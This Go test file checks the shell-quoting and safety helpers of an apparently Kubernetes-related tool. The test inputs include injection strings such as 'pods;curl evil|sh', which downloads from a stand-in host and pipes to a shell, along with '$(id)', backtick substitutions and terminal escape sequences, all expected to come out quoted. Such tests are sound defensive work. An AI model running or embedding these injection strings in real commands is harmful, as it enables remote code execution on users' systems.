package shell_test

import (
	"fmt"
	"os/exec"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/listwatch/listwatch/internal/shell"
)

func ExampleQuote() {
	fmt.Println(shell.Quote("kubectl", "get", "pods;curl evil|sh", "it's"))
	// Output: kubectl get 'pods;curl evil|sh' 'it'\''s'
}

// TestQuotedWordsArriveAsTheyWere: bash reads what Quote wrote.
func TestQuotedWordsArriveAsTheyWere(t *testing.T) {
	words := []string{"", "pods", "a b", "$(id)", "`id`", "a'b\"c", "\\", "a\nb", "\x1b]0;x\a", "\u009b31m", "\u202etxt", "~", "=ls", "*", "{a,b}",
		"!x", "#", "é", "\xff\xfe", "-n", "a=b", "x;y|z&", "\x011", "<>", "ns/name@1:2%3,4+5"}
	for c := rune(1); c < 0x180; c++ {
		words = append(words, "a"+string(c)+"1")
	}
	out, err := exec.CommandContext(t.Context(), "bash", "-c", `printf '%s\0' `+shell.Quote(words...)).Output()
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(words, strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")); diff != "" {
		t.Errorf("words (-want +got):\n%s", diff)
	}
	for _, r := range shell.Quote(words...) {
		if r < ' ' || r >= 0x7f && r < 0xa0 || r == '\u202e' {
			t.Errorf("%U is printed as it is", r)
		}
	}
}

func TestInert(t *testing.T) {
	for word, want := range map[string]bool{
		"pods": true, "deployments.v1.apps": true, "system:node": true, "A_b-1": true, "admin@kubernetes": true, "arn:aws:eks:x:1:cluster/a": true,
		"": false, "-n": false, "_activeHelp_ x": false, "_activeHelp_": false, "a b": false, "a`id`": false, "$x": false, "a;b": false,
		"a\tb": false, "a\x1b": false, "~": false, "*": false, "/b": false, "@b": false, "é": false, "a=b": false,
	} {
		if got := shell.Inert(word); got != want {
			t.Errorf("Inert(%q) = %t, want %t", word, got, want)
		}
	}
}
